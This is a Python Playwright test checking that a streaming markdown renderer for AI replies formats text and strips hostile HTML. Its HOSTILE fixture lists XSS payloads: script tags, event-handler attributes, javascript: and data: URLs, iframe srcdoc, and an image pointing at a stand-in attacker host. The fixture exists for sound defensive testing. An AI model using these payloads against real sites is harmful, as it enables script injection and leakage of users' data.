"""The page of `docs/guides/markdown.md`, with Vite, in a real browser: it does not flicker, and runs nothing that a model writes."""

from pathlib import Path

import pytest
from playwright.async_api import Page

from browser.guide import files_of, save
from browser.guide_pages import configuration
from browser.pages import opened, shown, vite
from conftest import Serve

pytestmark = [pytest.mark.browser, pytest.mark.node]

FILES = files_of("guides/markdown.md")
PAGE = "index.html", "main.js", "markdown.js", "markdown.jsx", "vite.config.mjs"
FORMATTED = (
    "<h1>A heading</h1> | <p>Some <strong>bold text</strong>, some <em>emphasis</em>, <code>code</code>, and "
    '<a href="https://example.com" target="_blank" rel="noopener noreferrer">a link</a>.</p> | '
    "<ol><li>one</li><li>two, with a list<ul><li>in it</li></ul></li></ol> | "
    '<table><thead><tr><th>language</th><th align="right">year</th></tr></thead><tbody>'
    '<tr><td>Python</td><td align="right">1991</td></tr>'
    '<tr><td>JavaScript</td><td align="right">1995</td></tr></tbody></table> | '
    '<pre><code class="language-js">const answer = 42;</code></pre> | '
    '<p> <a target="_blank" rel="noopener noreferrer">a trap</a></p>'
)
BLOCKS = r"[...answer.children].map(it => it.innerHTML.replaceAll(/\n\s*/g, '')).join(' | ')"
HOSTILE = """\
<script>globalThis.ran = 1</script><img src=x onerror="globalThis.ran = 2">

<svg onload="globalThis.ran = 3"><iframe srcdoc="<script>parent.ran = 4</script>"></iframe>

[one](javascript:globalThis.ran=5) <a href=" java&#10;script:globalThis.ran=6" onclick="globalThis.ran=7">two</a>
<form action="/"><button formaction="javascript:globalThis.ran=8">three</button></form><style>p{display:none}</style>

![four](https://attacker.example/?words "five")

| <b onclick="globalThis.ran=9">six</b> |
| --- |
| [seven](data:text/html,<script>opener.ran=10</script>) |
"""
IN_REACT = """
import { createElement, StrictMode } from "react";
import { createRoot } from "react-dom/client";
import { Markdown } from "./markdown.jsx";
const root = createRoot(document.getElementById("root"));
window.draw = (text, isDone) =>
  root.render(createElement(StrictMode, null, createElement(Markdown, { text, isDone })));
draw("**bo", false);
"""


async def ask(page: Page, markdown: str = "") -> None:
    """Ask, with the page's own text if there is no other, and collect what is shown and what is removed."""
    if markdown:
        await page.fill("textarea", markdown)
    await page.evaluate(
        """() => {
          window.seen = [];
          window.removed = [];
          new MutationObserver(changes => {
            seen.push(answer.innerText);
            for (const { removedNodes } of changes) removed.push(...[...removedNodes].map(it => it.nodeName));
          }).observe(answer, { subtree: true, childList: true, characterData: true });
        }"""
    )
    await page.click("text=Ask")


async def test_markdown_is_formatted_while_it_streams_and_runs_nothing(
    serve: Serve, tmp_path: Path
) -> None:
    service = await serve(configuration("", reply="echo", words_per_second=50))
    save(tmp_path, *PAGE, service="/ai", files=FILES)
    (tmp_path / "react.html").write_text(
        '<!doctype html><div id="root"></div><script type="module" src="/react.js"></script>'
    )
    (tmp_path / "react.js").write_text(IN_REACT)
    async with vite(tmp_path, service.port) as url, opened(url) as page:
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        await ask(page)
        await page.wait_for_selector("h1")
        await page.evaluate("getSelection().selectAllChildren(document.querySelector('h1'))")
        await shown(page, BLOCKS, FORMATTED)
        assert await page.evaluate("getSelection().toString()") == "A heading"
        assert await page.evaluate("removed") == []
        seen = await page.evaluate("seen")
        assert len(seen) > 1
        assert [text for text in seen if any(it in text for it in ("**", "](", "`", "|"))] == []

        await ask(page, HOSTILE)
        await page.wait_for_selector("text=seven")
        await shown(page, "note.textContent", "")
        for link in await page.query_selector_all("#answer a:not([href])"):
            await link.click()
        image = await page.wait_for_selector("a[title=five]")
        assert image
        assert await image.get_attribute("href") == "https://attacker.example/?words"
        tags = (
            "[...new Set([...answer.querySelectorAll('*')].map(it => it.localName))].sort().join()"
        )
        assert await page.evaluate(tags) == "a,div,p,table,tbody,td,th,thead,tr"
        harmful = "[...answer.querySelectorAll('*')].flatMap(it => it.getAttributeNames()).filter(it => it.startsWith('on'))"
        assert await page.evaluate(harmful) == []
        assert await page.evaluate("globalThis.ran") is None
        assert [it for it in requested if not it.startswith((url, "data:"))] == []

        await page.goto(f"{url}/react.html")
        await shown(page, "root.innerText", "bo")
        await page.evaluate("draw('**bold** and a [link](https://a.example)', true)")
        await shown(page, "root.querySelector('strong').nextSibling.data", " and a ")
